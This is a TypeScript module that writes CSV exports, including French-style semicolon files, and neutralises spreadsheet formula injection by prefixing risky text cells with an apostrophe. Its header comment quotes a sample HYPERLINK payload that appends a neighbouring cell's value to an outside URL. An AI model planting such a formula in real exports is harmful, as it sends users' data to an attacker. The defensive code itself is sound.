/**
 * CSV for spreadsheets, safe against formula injection. Excel, LibreOffice and Google Sheets read a
 * cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some of them skip
 * first) as a formula: a structure or commune named `=HYPERLINK("https://x/?"&A2, "…")` would send
 * its neighbours' figures away, or run a command through DDE, when a manager opens the export.
 * Following OWASP's advice, every text cell that could start a formula is prefixed with `'`, which
 * spreadsheets show as plain text. Numbers are written by the export itself and stay numbers (a
 * negative figure is not guarded). The separator is a parameter: the guard does not depend on it.
 */

export type CsvValue = string | number | boolean | null | undefined;

/**
 * Starts a formula once spreadsheets have skipped leading blanks or quotes (a cell `"=1+1"` or
 * ` =1+1` may be unquoted or trimmed on import), also in the full-width forms some of them
 * normalise; or starts with a tab or carriage return, which some of them drop before reading on.
 */
const FORMULA_START = /^[\s"'\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/u;

/** Characters that need the cell quoted whatever the separator: the future `;` needs no change here. */
const NEEDS_QUOTES = /[",;\t\r\n]/;

/** Text from data made inert: `'` before anything a spreadsheet would evaluate. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** How numbers and booleans are written: as code writes them, or as a French spreadsheet reads them. */
export interface CsvConventions {
  readonly decimal: '.' | ',';
  readonly booleans: readonly [yes: string, no: string];
}
const PLAIN: CsvConventions = { decimal: '.', booleans: ['true', 'false'] };
const FRENCH: CsvConventions = { decimal: ',', booleans: ['oui', 'non'] };

/** One cell: text guarded and quoted when needed; numbers and booleans as written; nothing as empty. */
export function csvCell(value: CsvValue, separator = ',', conventions: CsvConventions = PLAIN): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value).replace('.', conventions.decimal) : '';
  if (typeof value === 'boolean') return value ? conventions.booleans[0] : conventions.booleans[1];
  const text = neutraliseFormula(value);
  return NEEDS_QUOTES.test(text) || text.includes(separator) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** Lines of cells, each line ended by a newline. */
export function csvDocument(
  rows: ReadonlyArray<readonly CsvValue[]>,
  separator = ',',
  conventions: CsvConventions = PLAIN,
): string {
  return rows.map((row) => `${row.map((value) => csvCell(value, separator, conventions)).join(separator)}\n`).join('');
}

/**
 * CSV as French spreadsheets open it with a double click: `;` between cells (the comma is the decimal mark),
 * decimal commas, `oui`/`non`, and a UTF-8 byte order mark so Excel reads accents right. Same formula guard.
 */
export function frenchCsvDocument(rows: ReadonlyArray<readonly CsvValue[]>): string {
  return `\uFEFF${csvDocument(rows, ';', FRENCH)}`;
}
